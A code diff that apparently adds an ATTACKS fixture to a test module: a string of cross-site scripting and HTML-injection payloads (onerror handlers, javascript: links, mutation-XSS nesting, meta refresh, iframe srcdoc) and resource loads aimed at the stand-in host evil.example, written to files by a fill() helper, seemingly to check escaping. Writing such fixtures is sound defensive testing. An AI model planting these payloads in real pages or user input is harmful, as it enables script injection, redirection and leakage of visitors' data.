@@ -9,6 +9,22 @@ HOSTILE = (
     '<script>alert(1)</script><img src=x onerror=alert(2)>" onmouseover="alert(3)\''
     " javascript:alert(4) </pre></main>{{ 7 * 7 }} \u202etxt \x00 \x1b[2J"
 )
+ATTACKS = "".join(
+    (
+        HOSTILE,
+        '<a class="attacked" href="javascript:alert(5)">',
+        '<svg class="attacked"><style><img src=x onerror=alert(6)></style></svg>',
+        '<math><mtext><table><mglyph><style><!--</style><img class="attacked" title="--&gt;&lt;',
+        'img src=x onerror=alert(7)&gt;"></math></title></textarea></noscript></template><![CDATA[',
+        '<meta class="attacked" http-equiv="refresh" content="0;url=http://evil.example/">',
+        '<link class="attacked" rel="stylesheet" href="http://evil.example/x.css">',
+        '<style class="attacked">@import "http://evil.example/"; * { display: none }</style>',
+        '<div class="attacked" hx-get="http://evil.example/" hx-trigger="load" hx-on:load="x()">',
+        "<base href='http://evil.example/'><iframe class=attacked srcdoc='<script>alert(8)'>",
+        "<img class=attacked src='http://evil.example/?",
+    )
+)
+"""Text that would act in each of the ways that are known, if it were read as anything else."""
 
 
 def fill(path: Path, text: str = HOSTILE) -> None:
